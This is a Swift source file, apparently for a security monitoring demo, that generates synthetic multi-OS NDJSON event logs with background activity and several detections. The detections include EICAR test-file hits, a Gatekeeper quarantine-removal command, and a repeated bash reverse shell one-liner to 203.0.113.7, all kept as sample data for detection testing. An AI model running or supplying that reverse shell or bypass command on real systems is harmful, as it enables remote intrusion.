import VigilModel

/// A realistic, deterministic multi-OS workload in generic JSON: Linux servers, a Mac, an
/// iPhone and an Android phone, with ordinary activity and a few detections (EICAR first).
public enum DemoData {
    /// The EICAR antivirus test string (68 bytes).
    public static let eicar = EICAR.testString

    /// NDJSON lines ending `now`, oldest first.
    public static func lines(endingAt now: Timestamp, backgroundEvents: Int = 200) -> [String] {
        let hosts: [(name: String, platform: String, version: String)] = [
            ("web-01", "linux", "Ubuntu 22.04"), ("db-01", "linux", "Red Hat Enterprise Linux 9.3"),
            ("mbp-alice", "macos", "14.5"), ("iphone-bob", "ios", "17.5"), ("pixel-carol", "android", "14"),
        ]
        var lines: [String] = []
        var clock = now - .seconds(1800)
        func line(_ host: (name: String, platform: String, version: String), category: String, _ fields: [(String, String)]) -> String {
            clock = clock + .seconds(7)
            var object = "{\"@timestamp\":\(JSONText.quoted(clock.iso8601)),\"host\":{\"name\":\(JSONText.quoted(host.name)),"
            object += "\"os\":{\"platform\":\(JSONText.quoted(host.platform)),\"version\":\(JSONText.quoted(host.version))}},"
            object += "\"logsource\":{\"category\":\(JSONText.quoted(category))}"
            for (key, value) in fields { object += ",\(JSONText.quoted(key)):\(JSONText.quoted(value))" }
            return object + "}"
        }
        let ordinary: [(String, String)] = [
            ("/usr/bin/ls", "ls -la /var/log"), ("/usr/bin/systemctl", "systemctl status nginx"),
            ("/usr/bin/python3", "python3 /opt/app/worker.py"), ("/usr/bin/git", "git pull --ff-only"),
        ]
        for index in 0..<backgroundEvents {
            let host = hosts[index % 2 == 0 ? 0 : (index % 3 == 0 ? 1 : 2)]
            let (image, commandLine) = ordinary[index % ordinary.count]
            lines.append(line(host, category: "process_creation", [("Image", image), ("CommandLine", commandLine), ("User", "svc"), ("ProcessId", String(1000 + index))]))
            if index % 10 == 0 {
                lines.append(line(host, category: "network_connection", [("Image", image), ("DestinationIp", "10.0.0.\(index % 250)"), ("DestinationPort", "443")]))
            }
        }
        // The detection test: ClamAV on web-01 finds the EICAR file.
        lines.append(line(hosts[0], category: "antivirus", [("Filename", "/tmp/eicar.com.txt"), ("Signature", "Win.Test.EICAR_HDB-1"), ("Action", "found")]))
        // EICAR by hash on the Mac (Jamf Protect style file event).
        lines.append(line(hosts[2], category: "file_event", [("TargetFilename", "/Users/alice/Downloads/eicar.com"), ("sha256", "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f")]))
        // A reverse shell on db-01, repeated (deduplicated into one alert).
        for port in [4444, 4444, 4445] {
            lines.append(line(hosts[1], category: "process_creation", [("Image", "/bin/bash"), ("CommandLine", "bash -i >& /dev/tcp/203.0.113.7/\(port) 0>&1"), ("User", "www-data")]))
        }
        // Gatekeeper bypass on the Mac.
        lines.append(line(hosts[2], category: "process_creation", [("Image", "/usr/bin/xattr"), ("CommandLine", "xattr -d com.apple.quarantine /Applications/Unknown.app")]))
        // Mobile threat defense findings.
        lines.append(line(hosts[3], category: "antivirus", [("Signature", "iOS.Spyware.Pegasus-IOC"), ("Action", "reported")]))
        lines.append(line(hosts[4], category: "antivirus", [("Signature", "Android.Banker.Anubis"), ("Filename", "/data/app/com.fake.bank/base.apk"), ("Action", "quarantined")]))
        lines.append(line(hosts[4], category: "antivirus", [("Signature", "EICAR_Test_File"), ("Filename", "/sdcard/Download/eicar.com"), ("Action", "quarantined")]))
        return lines
    }
}
